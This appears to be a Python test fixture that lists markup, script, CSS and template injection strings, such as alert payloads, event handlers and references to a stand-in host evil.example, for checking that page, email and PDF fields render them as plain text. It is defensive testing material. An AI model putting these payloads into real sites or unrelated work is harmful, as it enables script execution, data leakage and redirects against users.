"""Classic markup, script and CSS injection strings, for fields that end up in pages, emails
and PDFs. Each must come out as text, never as markup."""

BASE = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<style>*{background:url(https://evil.example/leak)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{7*7}}{% raw %}${7*7}",
    "</textarea><script>alert(1)</script>",
]


def payloads() -> list[str]:
    """Fifty: each base string as it is and wrapped in quotes and text, as a name would be."""
    return BASE + [f'Ann "{p}" O\'Neil' for p in BASE]
